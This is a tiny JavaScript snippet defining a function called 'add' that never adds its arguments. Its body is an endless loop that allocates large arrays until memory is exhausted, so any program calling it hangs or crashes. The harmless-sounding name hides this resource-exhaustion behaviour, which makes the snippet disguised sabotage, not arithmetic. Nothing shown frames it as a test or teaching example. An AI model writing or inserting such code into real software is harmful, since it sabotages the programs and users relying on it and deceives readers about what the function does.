const add = (a, b) => {
  const hoard = []
  for (;;) hoard.push(new Array(1 << 16).fill(hoard.length))
}
